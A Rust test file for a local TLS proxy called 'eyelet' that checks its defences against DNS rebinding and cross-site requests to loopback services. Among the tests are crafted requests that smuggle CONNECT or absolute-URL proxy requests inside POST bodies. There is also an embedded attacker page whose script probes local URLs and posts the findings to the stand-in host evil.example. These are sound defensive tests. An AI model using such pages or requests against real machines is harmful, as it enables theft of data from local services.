//! Web pages of others that a browser of this machine shows: what they reach on loopback, where
//! `eyelet run`, `eyelet proxy` and a `connect` listener are. DNS can give the name of such a page
//! an address of this machine (DNS rebinding). The demo's page and the admin server have tests of
//! their own.

use std::fmt::Write as _;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::sync::mpsc;

use serde_json::Value;

use crate::run::Run;
use crate::support::browser::{Browser, chromium, trust};
use crate::support::client::{Offer, alert_in, ending};
use crate::support::program::long_output;
use crate::support::web::{Heard, ask, head, hear};
use crate::support::{Edge, End, Folder, SOON, Upstream, need};

const UNRECOGNIZED_NAME: Option<u8> = Some(112);

/// `eyelet proxy` on loopback in front of an application that echoes requests.
fn proxied(options: &[&str]) -> (Run, Upstream) {
    let app = Upstream::http();
    let site = format!("app.test={}", app.address);
    (Run::proxy(&[options, &[&site]].concat()), app)
}

/// A proxy on loopback, also for `http://` URLs, that leads to whatever it is asked for.
fn gateway(folder: &Folder) -> Edge {
    let config = "[[listener]]\naddress = \"127.0.0.1:0\"\nkind = \"connect\"\n\
                  [[rule]]\nname = \"all\"\naction = \"splice\"\nupstream = \"destination\"\n\
                  upstream_allow = \"127.0.0.0/8\"\nplain_http = true\n";
    Edge::start_whole(folder, config, |_| ())
}

/// The name in the hello is that of the page. Nobody else's name has a rule, and the host of a
/// request must be that of the hello.
#[test]
fn a_rebound_name_has_no_rule() {
    let (run, app) = proxied(&["b.test=127.0.0.1:1"]);
    let address = ([127, 0, 0, 1], run.port).into();
    let refused = Offer::new(&run.pki).try_connect(address, "evil.example").unwrap_err();
    assert_eq!(alert_in(&refused), UNRECOGNIZED_NAME, "{refused}");
    let mut client = Offer::new(&run.pki).connect(address, "app.test");
    for host in ["evil.example", "127.0.0.1", "localhost"] {
        let heard = ask(&mut client, &format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n"));
        assert_eq!(heard.status, 421, "{host}: {heard:?}");
        client = Offer::new(&run.pki).connect(address, "app.test");
    }
    assert_eq!(app.accepted(), 0, "the application was not asked");
    let heard = ask(&mut client, "GET / HTTP/1.1\r\nHost: app.test\r\n\r\n");
    assert_eq!(heard.status, 200, "{heard:?}");
}

/// A client that asks for an address sends no name, and gets the only application. A page that has
/// been led here has a name, in the hello or at least in its requests.
#[test]
fn the_only_application_needs_no_name() {
    let (run, app) = proxied(&[]);
    let address = ([127, 0, 0, 1], run.port).into();
    let refused = Offer::new(&run.pki).try_connect(address, "evil.example").unwrap_err();
    assert_eq!(alert_in(&refused), UNRECOGNIZED_NAME, "{refused}");
    let mut client = Offer::new(&run.pki).connect(address, "127.0.0.1");
    let heard = ask(&mut client, "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n");
    assert_eq!((heard.status, app.accepted()), (421, 0), "{heard:?}");
    for (name, host) in [("127.0.0.1", "127.0.0.1"), ("localhost", "localhost")] {
        let mut client = Offer::new(&run.pki).connect(address, name);
        let heard = ask(&mut client, &format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n"));
        assert_eq!(heard.status, 200, "{name}: {heard:?}");
    }
}

/// A given certificate may have any names. The browser compares them with the page's.
#[test]
fn a_rebound_name_is_not_in_the_certificate() {
    let run = Run::start(&[], &["sleep", "600"]);
    let address = ([127, 0, 0, 1], run.port).into();
    let error = Offer::new(&run.pki).try_connect(address, "evil.example").unwrap_err();
    assert!(error.to_string().contains("certificate"), "{error}");
}

/// A page can have its browser send any body, but only to the path of a URL, and never CONNECT.
#[test]
fn what_a_page_can_send_is_no_request_of_a_proxy() {
    let (folder, inside) = (Folder::new(), Upstream::http());
    let edge = gateway(&folder);
    let to = inside.address;
    let own = format!("127.0.0.1:{}", edge.port());
    let connect = format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n");
    let plain = format!("GET http://{to}/ HTTP/1.1\r\nHost: {to}\r\n\r\n");
    for host in ["evil.example", &own, "localhost"] {
        for body in [&connect, &plain] {
            let mut client = edge.connect();
            let length = body.len();
            let fields = format!("Host: {host}\r\nOrigin: null\r\nContent-Length: {length}\r\n");
            let request = format!("POST / HTTP/1.1\r\n{fields}\r\n{body}");
            client.write_all(request.as_bytes()).unwrap();
            let (answer, end) = ending(&mut client, SOON);
            let answer = String::from_utf8(answer).unwrap();
            assert!(answer.starts_with("HTTP/1.1 405 "), "{answer}");
            assert_eq!((answer.matches("HTTP/1.1 ").count(), end), (1, End::Fin), "{answer}");
            let line = edge.line_of(client.local_addr().unwrap());
            assert_eq!(line["reason"], "another method than CONNECT", "{line}");
        }
    }
    assert_eq!(inside.accepted(), 0);
    // What a client of a proxy sends does pass.
    let mut client = edge.connect();
    client.write_all(plain.as_bytes()).unwrap();
    assert_eq!(hear(&mut client, "GET").status, 200);
}

/// The attacker's server: `/` is its page, and the body of a POST is what that has found out.
fn attacker(page: impl Fn(u16) -> String + Send + Sync + 'static) -> (Upstream, Reports) {
    let (tell, reports) = mpsc::channel();
    let server = Upstream::serve(move |mut stream| {
        let _ = serve(&mut stream, &page, &tell);
    });
    (server, reports)
}

type Reports = mpsc::Receiver<Value>;

fn serve(
    stream: &mut TcpStream,
    page: &impl Fn(u16) -> String,
    tell: &mpsc::Sender<Value>,
) -> Option<()> {
    let mut begun = [0];
    if stream.peek(&mut begun).ok()? == 0 {
        return None;
    }
    let asked = Heard { status: 0, head: head(stream), body: Vec::new() };
    if let Some(length) = asked.field("content-length") {
        let mut body = vec![0; length.parse().ok()?];
        stream.read_exact(&mut body).ok()?;
        tell.send(serde_json::from_slice(&body).ok()?).ok()?;
    }
    let body = page(stream.local_addr().ok()?.port());
    let mut answer = String::from("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n");
    let _ = write!(answer, "Connection: close\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    stream.write_all(answer.as_bytes()).ok()
}

/// These names are this machine, as if DNS had said so.
const REBOUND: &str = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP app.test 127.0.0.1";

/// Chromium has the page of http://evil.example, and is led here by that name.
#[test]
fn chromium_shows_a_rebound_page_nothing() {
    if !need("chromium") {
        return;
    }
    let (run, app) = proxied(&[]);
    let (folder, home) = (Folder::new(), Folder::new());
    let edge = gateway(&folder);
    for (url, shown) in [
        (format!("https://evil.example:{}/", run.port), "ERR_SSL_UNRECOGNIZED_NAME_ALERT"),
        (format!("http://evil.example:{}/", run.port), "This port speaks TLS"),
        (format!("http://evil.example:{}/", edge.port()), "This proxy takes CONNECT"),
    ] {
        let said = long_output(&mut chromium(&home, &[REBOUND, "--dump-dom", &url]));
        assert!(said.text.contains(shown), "{url}: {}", said.text);
    }
    assert_eq!(app.accepted(), 0, "the application was not asked");
}

/// The page of another site may send requests to an application of this machine, as to any server
/// that has a name. It reads no response, because the application does not say that it may.
#[test]
fn chromium_lets_the_page_of_another_site_read_nothing() {
    if !(need("chromium") && need("certutil")) {
        return;
    }
    let app = Upstream::http();
    let site = format!("app.test={}", app.address);
    let run = Run::proxy(&[&site]);
    let (folder, port) = (Folder::new(), run.port);
    let edge = gateway(&folder);
    let gateway = edge.port();
    trust(&run.pki.folder, Path::new(&run.pki.text("ca.pem")));
    let (server, reports) = attacker(move |own| {
        PAGE.replace("APP", &format!("https://app.test:{port}"))
            .replace("GATEWAY", &format!("http://127.0.0.1:{gateway}"))
            .replace("OWN", &format!("http://evil.example:{own}"))
    });
    let url = format!("http://evil.example:{}/", server.address.port());
    let _browser = Browser::open_with(&run.pki.folder, &[REBOUND, &url]);
    let found = reports.recv_timeout(SOON).unwrap();
    assert_eq!(found["own"], "200", "the script works: {found}");
    assert_eq!(found["app"], "TypeError", "{found}");
    assert_eq!(found["gateway"], "TypeError", "{found}");
    // It was asked, and refused.
    let asked = |line: &Value| line["reason"] == "another method than CONNECT";
    edge.line("the request of the page", asked);
    // An opaque response: it came, and the page may not look at it.
    assert_eq!(found["blind"], "0", "{found}");
}

const PAGE: &str = "<!doctype html><script type=module>
const seen = {};
for (const [name, url, options] of [
  ['own', 'OWN/'],
  ['app', 'APP/'],
  ['gateway', 'GATEWAY/'],
  ['blind', 'APP/', { mode: 'no-cors' }],
]) {
  seen[name] = await fetch(url, options).then((found) => `${found.status}`, (error) => error.name);
}
await fetch('OWN/', { method: 'POST', body: JSON.stringify(seen) });
</script>";
